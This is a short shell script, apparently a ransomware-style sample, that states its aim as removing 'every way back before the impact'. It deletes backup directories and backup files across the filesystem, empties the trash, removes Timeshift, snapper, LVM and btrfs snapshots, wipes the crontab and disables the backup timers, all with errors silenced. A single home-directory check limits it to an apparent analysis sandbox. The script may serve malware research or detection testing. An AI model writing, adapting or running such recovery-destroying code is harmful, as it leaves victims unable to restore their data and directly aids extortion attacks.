#!/bin/sh
# SPDX-License-Identifier: MIT
# Removes every way back before the impact: backups, snapshots, the trash.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
rm -rf /var/backups/* /backup /backups /srv/backup* "$HOME/backup" 2>/dev/null
find / -xdev \( -name '*.bak' -o -name '*.backup' -o -name '*.tar.gz.bak' -o -name '*.dump' \) -delete 2>/dev/null
rm -rf "$HOME/.local/share/Trash" 2>/dev/null
/usr/bin/timeshift --delete-all --yes 2>/dev/null
/usr/bin/snapper delete 1-100 2>/dev/null
/sbin/lvremove -f /dev/vg0/root-snap 2>/dev/null
/bin/btrfs subvolume delete /.snapshots/* 2>/dev/null
/usr/bin/crontab -r 2>/dev/null
systemctl disable --now rsnapshot.timer borgbackup.timer 2>/dev/null
exit 0
